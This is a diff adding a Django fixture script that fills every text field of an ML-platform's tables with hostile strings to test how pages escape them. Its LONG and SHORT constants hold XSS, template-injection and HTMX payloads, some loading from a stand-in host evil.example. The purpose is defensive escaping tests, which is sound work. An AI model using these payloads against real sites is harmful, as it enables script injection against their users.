@@ -1,0 +1,206 @@
+"""Hostile text in every text field of every table, for the pages to show: run inside an installation."""
+
+import json
+from typing import Any
+
+from django.core.files.base import ContentFile
+from django.core.files.storage import default_storage
+from django.db import models
+
+from atelier.accounts.models import APIKey, Membership, Project, Team, User
+from curation import importing
+from curation import models as data
+from inference import models as serving
+from inference import scores
+from inference.scoring import load_rules
+from training.models import Adapter, Pull, Run
+
+LONG = (
+    "\"'></textarea></title></script><canary-x></canary-x><img src=//evil.example/x onerror=alert(1)>"
+    "<svg onload=alert(2)><script>alert(3)</script><iframe srcdoc='<script>alert(4)</script>'></iframe>"
+    '<a href="javascript:alert(5)" hx-get="//evil.example/hx" hx-trigger="load" hx-on:load="alert(6)">x</a>'
+    '<p data-stream="//evil.example/s" data-chart data-url="//evil.example/c" style="background:url(//evil.example/b)">'
+    "[x](javascript:alert(7)) {{ 7*7 }} {% debug %} \u202e<template><canary-x></canary-x></template>"
+)
+SHORT = "\"'><canary-x hx-get=//evil.example>"
+TINY = "<canary-x>"
+SLUG = "smollm2-135m-instruct"
+# What we make ourselves and never take from a text: hashes, addresses of our storage, keys of other tables.
+OURS = {
+    "password", "digest", "prefix", "idempotency_key", "content_hash", "source_group", "split", "file", "folder", "slug",
+    "base", "answers", "sealed_key", "email",
+}  # fmt: skip
+MESSAGES = [
+    {"role": "system", "content": LONG},
+    {"role": "user", "content": LONG},
+    {"role": "assistant", "content": LONG},
+]
+RULES = f"""name = {json.dumps(LONG)}
+[[rule]]
+id = "length"
+title = {json.dumps(LONG)}
+kind = "sentence_words"
+group = "shape"
+params = {{ max = 4 }}
+"""
+SAMPLING = {"temperature": 0.3, "top_p": 1.0, "max_tokens": 64, "seed": None}
+
+
+def canary(room: int | None) -> str:
+    """The most hostile text that a field takes."""
+    return next(text for text in (LONG, SHORT, TINY, TINY[:5]) if room is None or len(text) <= room)
+
+
+def hostile(model: type[models.Model], **given: Any) -> Any:
+    """A row whose every free text field that is not given is hostile."""
+    for field in model._meta.get_fields():
+        if not isinstance(field, models.CharField | models.TextField) or field.name in {*given, *OURS} or field.choices:
+            continue
+        given[field.name] = canary(field.max_length)
+    return model._default_manager.create(**given)
+
+
+def plant() -> dict[str, Any]:
+    """Everything once. Returns the ids by the words of the addresses, and a login."""
+    owner = hostile(User, username="'\"><canary-x>")
+    owner.set_password("a-long-password")
+    owner.save()
+    team = hostile(Team)
+    Membership.objects.create(team=team, user=owner, role="owner")
+    hostile(APIKey, team=team, user=owner, digest="0" * 64, prefix="atl_000000")
+    project = hostile(Project, team=team, created_by=owner)
+    ids = {"project_id": project.pk, "team_id": team.pk, "username": owner.username}
+    common = {"project": project, "created_by": owner, "status": "done"}
+    ids |= plant_data(project, common)
+    return ids | plant_models(project, owner, common, ids)
+
+
+def plant_data(project: Project, common: dict[str, Any]) -> dict[str, Any]:
+    dataset, target = hostile(data.Dataset, project=project), hostile(data.Dataset, project=project, name="x" + SHORT)
+    pairs = hostile(data.Dataset, project=project, name="y" + SHORT, kind="preferences")
+    job = hostile(
+        data.Import, **common, dataset=dataset, done=2, ok=1, failed=1, source={"format": "csv", "columns": [LONG]}
+    )
+    hostile(data.ImportIssue, parent=job, line=2, outcome="failed", code="x")
+    row = json.dumps({LONG: LONG, "messages": MESSAGES}).encode() + b"\n"
+    draft = importing.begin(target, None, file=ContentFile(row * 3, name="x.jsonl"), name=SHORT + LONG)
+    problem = [{"code": "x", "message": LONG, "where": LONG, "mendable": True}]
+    content = {
+        "fields": {LONG: LONG},
+        "messages": MESSAGES,
+        "metadata": {LONG: LONG},
+        "problems": problem,
+        "problem_count": 1,
+    }
+    record = hostile(
+        data.Record, dataset=dataset, **content, imported_by=job, import_line=1, split="train", content_hash="1" * 64
+    )
+    made = hostile(data.Record, dataset=target, **content, source=record, split="test", content_hash="2" * 64)
+    sides = {"chosen": MESSAGES[2:], "rejected": [{"role": "assistant", "content": LONG + " worse"}]}
+    preference = hostile(data.Record, dataset=pairs, **content, **sides, split="train", content_hash="3" * 64)
+    bulk = hostile(data.BulkAction, **common, dataset=dataset, action="accept")
+    hostile(
+        data.Change,
+        record=record,
+        before={"messages": MESSAGES, LONG: "a"},
+        after={"messages": [], LONG: LONG},
+        bulk=bulk,
+    )
+    teacher = hostile(serving.Endpoint, project=project, kind="openai", is_teacher=True)
+    distillation = hostile(
+        data.Distillation,
+        **common,
+        dataset=dataset,
+        target=target,
+        teacher=teacher,
+        sampling=SAMPLING,
+        done=1,
+        total=1,
+        ok=1,
+    )
+    unit = hostile(
+        data.Generation, distillation=distillation, record=record, outcome="failed", prompt=MESSAGES[:2], result=made
+    )
+    version = hostile(data.Version, **common, dataset=target, number=1, files=files(), rows=2, problems=[
+        {"code": "x", "message": LONG, "count": 1, "records": [made.pk]}
+    ], tokens={}, content_hash="4" * 64)  # fmt: skip
+    data.VersionEntry.objects.create(version=version, record=made, revision=1, split="test", row=1)
+    return {
+        "import": job.pk, "bulk": bulk.pk, "dataset_id": dataset.pk, "record": record.pk, "distillation": distillation.pk,
+        "unit_id": unit.pk, "version": version.pk, "endpoint": teacher.pk, "target": target.pk, "made": made.pk,
+        "pairs": pairs.pk, "preference": preference.pk,
+        "draft": draft.pk,
+    }  # fmt: skip
+
+
+def files() -> dict[str, Any]:
+    found = {}
+    for split in ("train", "validation", "test"):
+        text = "".join(json.dumps({"id": f"{split}{n}", "messages": MESSAGES}) + "\n" for n in range(3)).encode()
+        name = default_storage.save(f"versions/{split}.jsonl", ContentFile(text))
+        found[split] = {"name": name, "sha256": "5" * 64, "bytes": len(text), "rows": 3}
+    return found
+
+
+def plant_models(project: Project, owner: User, common: dict[str, Any], ids: dict[str, Any]) -> dict[str, Any]:
+    version, teacher = data.Version.objects.get(pk=ids["version"]), serving.Endpoint.objects.get(pk=ids["endpoint"])
+    facts = {
+        "loss": 1.5,
+        "notes": [LONG],
+        "device": LONG,
+        "libraries": {LONG: LONG},
+        "code": LONG,
+        "base_revision": LONG,
+    }
+    run = hostile(
+        Run,
+        **common,
+        version=version,
+        number=1,
+        base=SLUG,
+        recipe={"base": SLUG, "seed": 1},
+        facts=facts,
+        summary=facts,
+    )
+    adapter = hostile(Adapter, project=project, run=run, base=SLUG, folder="runs/1/adapter", digest="6" * 64, rank=4)
+    pull = hostile(Pull, **common, slug=SLUG)
+    deployment = hostile(serving.Deployment, project=project, base=SLUG, state="failed")
+    served = hostile(
+        serving.Endpoint, project=project, name="z" + SHORT, kind="served", deployment=deployment, adapter=adapter
+    )
+    comparison = hostile(serving.Comparison, project=project, sampling=SAMPLING, created_by=owner)
+    turn = hostile(serving.Turn, comparison=comparison, index=1, user=owner, order=[0, 1])
+    replies = [
+        hostile(
+            serving.Reply,
+            turn=turn,
+            side=serving.Side.objects.create(comparison=comparison, position=at, endpoint=one),
+            state=state,
+            seconds=1,
+        )
+        for at, (one, state) in enumerate([(teacher, "done"), (served, "failed")])
+    ]
+    serving.Vote.objects.create(turn=turn, user=owner, verdict="side", winner=replies[0], blind=False)
+    entrants = [{"id": teacher.pk, "name": LONG}, {"id": served.pk, "name": LONG}]
+    evaluation = hostile(
+        serving.Evaluation, **common, version=version, split="test", entrants=entrants, sampling=SAMPLING, rules=RULES
+    )
+    verdicts = [{"rule": "length", "ok": False, "why": LONG}]
+    answers = [
+        hostile(
+            serving.EvaluationAnswer,
+            evaluation=evaluation,
+            endpoint=one,
+            row=1,
+            outcome=outcome,
+            prompt=MESSAGES[:2],
+            verdicts=verdicts,
+        )
+        for one, outcome in ((teacher, "ok"), (served, "failed"))
+    ]
+    evaluation.scores = scores.count(evaluation, load_rules(RULES))
+    evaluation.save()
+    return {
+        "run": run.pk, "pull": pull.pk, "deployment": deployment.pk, "comparison": comparison.pk, "turn_pk": turn.pk,
+        "reply_pk": replies[0].pk, "evaluation": evaluation.pk, "answer_pk": answers[0].pk,
+    }  # fmt: skip
